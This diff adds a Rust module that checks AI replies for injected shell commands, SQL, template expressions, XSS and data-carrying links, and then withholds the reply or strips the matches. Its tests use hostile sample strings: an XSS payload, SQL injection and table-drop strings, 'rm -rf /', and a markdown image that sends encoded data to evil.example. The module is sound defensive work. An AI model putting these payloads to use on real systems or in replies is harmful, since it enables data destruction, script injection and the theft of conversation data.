@@ -1,0 +1,232 @@
+//! What in a reply something else might run: a database, a shell, a template engine, a browser; and what carries a conversation away.
+
+mod exfiltration;
+mod rail;
+mod rules;
+mod shown;
+
+use std::borrow::Cow;
+use std::ops::Range;
+
+pub(super) use rail::MARKUP;
+use rules::{RULES, candidates, matches};
+use shown::shown;
+
+use super::Found;
+use super::urls;
+use crate::classify::views;
+
+/// How often what is left of a text is looked at again.
+const MOST_ROUNDS: usize = 4;
+
+/// What is looked for.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) enum Kind {
+    /// Commands of a shell, and programs that run some.
+    Code,
+    /// Texts that change what a statement of SQL means.
+    Sqli,
+    /// Expressions for template engines that reach beyond the template.
+    Template,
+    /// What runs in a browser.
+    Xss,
+    /// Images and links that carry data to other hosts.
+    Exfiltration,
+}
+
+/// The names of the kinds in `injections`.
+pub(super) const KINDS: &[(&str, Kind)] = &[
+    ("code", Kind::Code),
+    ("sqli", Kind::Sqli),
+    ("template", Kind::Template),
+    ("xss", Kind::Xss),
+    ("exfiltration", Kind::Exfiltration),
+];
+
+/// What is done about it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) enum Remedy {
+    /// The reply is withheld.
+    Reject,
+    /// What was found is left out of it.
+    Omit,
+}
+
+/// What `rails.config.injection_detection` may say.
+#[derive(Debug, Clone, PartialEq)]
+pub(super) struct Settings {
+    /// What is looked for.
+    pub injections: Vec<Kind>,
+    /// What is done about it.
+    pub action: Remedy,
+    /// Hosts that images and links may carry data to.
+    pub allow: Vec<String>,
+}
+
+impl Default for Settings {
+    fn default() -> Self {
+        Self { injections: KINDS.iter().map(|(_, kind)| *kind).collect(), action: Remedy::Reject, allow: Vec::new() }
+    }
+}
+
+/// Looks for injections.
+#[derive(Debug)]
+pub(super) struct Detector {
+    injections: Vec<Kind>,
+    allow: urls::Detector,
+}
+
+impl Detector {
+    /// Hosts that are none are left out.
+    pub(super) fn new(settings: &Settings) -> Self {
+        let allow = urls::Settings { allow: settings.allow.clone(), ..urls::Settings::default() };
+        Self { injections: settings.injections.clone(), allow: urls::Detector::new(&allow) }
+    }
+
+    /// What is found in `text`, in order; the same place once for each rule.
+    pub(super) fn find(&self, text: &str) -> Vec<Found> {
+        let mut found: Vec<Found> = Vec::new();
+        self.by_rules(text, |_| true, |range| range, &mut found);
+        // A browser shows what is encoded as a text; others read it again.
+        for view in views(text) {
+            self.by_rules(view.text(), |kind| kind != Kind::Xss, |range| view.origin(range), &mut found);
+        }
+        if self.injections.contains(&Kind::Exfiltration) {
+            let carried = exfiltration::find(text, |link| self.allow.is_allowed(link));
+            found.extend(carried.into_iter().map(|range| one("data_in_address", range)));
+        }
+        found.sort_by_key(|found| (found.range.start, found.range.end));
+        found.dedup_by(|a, b| a.rule == b.rule && a.range.start < b.range.end);
+        found
+    }
+
+    /// `text` without what is found in it, and without what is found in that; `None` if there is still something after some rounds.
+    pub(super) fn omit(&self, text: &str, found: &[Found]) -> Option<String> {
+        let mut left = without(text, found);
+        for _ in 0..MOST_ROUNDS {
+            let found = self.find(&left);
+            if found.is_empty() {
+                return Some(left);
+            }
+            left = without(&left, &found);
+        }
+        None
+    }
+
+    fn by_rules(
+        &self,
+        text: &str,
+        wanted: impl Fn(Kind) -> bool,
+        origin: impl Fn(Range<usize>) -> Range<usize>,
+        found: &mut Vec<Found>,
+    ) {
+        let candidates = candidates(text);
+        if !candidates.contains(&true) {
+            return;
+        }
+        let shown = shown(text);
+        let is_shown = |range: &Range<usize>| {
+            let index = shown.partition_point(|code| code.start <= range.start);
+            index.checked_sub(1).is_some_and(|index| range.start < shown[index].end)
+        };
+        for (index, rule) in RULES.iter().enumerate() {
+            if !candidates[index] || !wanted(rule.kind) || !self.injections.contains(&rule.kind) {
+                continue;
+            }
+            let ranges = matches(index, text).filter(|range| rule.in_code || !is_shown(range));
+            found.extend(ranges.map(|range| one(rule.name, origin(range))));
+        }
+    }
+}
+
+fn one(rule: &'static str, range: Range<usize>) -> Found {
+    Found { rule: Cow::Borrowed(rule), range, score: 1.0 }
+}
+
+/// `text` without what was found, which is in order.
+fn without(text: &str, found: &[Found]) -> String {
+    let mut left = String::with_capacity(text.len());
+    let mut done = 0;
+    for found in found {
+        if done < found.range.start {
+            left.push_str(&text[done..found.range.start]);
+        }
+        done = done.max(found.range.end);
+    }
+    left.push_str(&text[done..]);
+    left
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A text, and the rules that find something in it.
+    #[derive(serde::Deserialize)]
+    struct Case {
+        text: String,
+        rules: Vec<String>,
+    }
+
+    #[test]
+    fn injections_are_found_and_answers_about_them_pass() {
+        let detector =
+            Detector::new(&Settings { allow: vec!["images.shop.example".to_owned()], ..Settings::default() });
+        let (mut positive, mut negative, mut wrong) = (0, 0, Vec::new());
+        for line in include_str!("../../../tests/data/injections.jsonl").lines() {
+            let case: Case = serde_json::from_str(line).unwrap();
+            let mut rules: Vec<String> = detector.find(&case.text).iter().map(|found| found.rule.to_string()).collect();
+            rules.sort();
+            rules.dedup();
+            *(if case.rules.is_empty() { &mut negative } else { &mut positive }) += 1;
+            if rules != case.rules {
+                wrong.push(format!("{:?}: {rules:?} and not {:?}", case.text, case.rules));
+            }
+        }
+        assert!(positive >= 40 && negative >= 40);
+        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    }
+
+    #[test]
+    fn what_is_found_is_left_out() {
+        let detector = Detector::new(&Settings::default());
+        for (text, wanted) in [
+            ("Use <img src=x onerror=alert(1)> here.", "Use  here."),
+            ("all is well", "all is well"),
+            ("x'; DROP TABLE users; --", "x"),
+            ("![é](https://evil.example/?d=aWdub3JlIGFsbCBydWxlcw) ü", "![é]() ü"),
+        ] {
+            assert_eq!(detector.omit(text, &detector.find(text)).unwrap(), wanted);
+        }
+        let nested = "<scr<script>alert(1)</script>ipt>alert(2)</script> fine";
+        assert!(!detector.omit(nested, &detector.find(nested)).unwrap().contains("<script"));
+    }
+
+    #[test]
+    fn kinds_that_are_not_wanted_are_not_looked_for() {
+        let detector = Detector::new(&Settings { injections: vec![Kind::Xss], ..Settings::default() });
+        assert_eq!(detector.find("' OR '1'='1' --"), []);
+        assert_eq!(detector.find("<script>alert(1)</script>").len(), 1);
+    }
+
+    #[test]
+    fn a_long_text_takes_no_long_time() {
+        let detector = Detector::new(&Settings::default());
+        for unit in [
+            "' or 1=1 ",
+            "<a ",
+            "{{ ",
+            "`",
+            "';",
+            "![](",
+            "https://a.example/?d=x ",
+            "a' --",
+            "<script>",
+            "rm -rf / ",
+            "é{{",
+        ] {
+            let text = unit.repeat(200_000 / unit.len());
+            assert!(detector.find(&text).len() < text.len());
+        }
+    }
+}
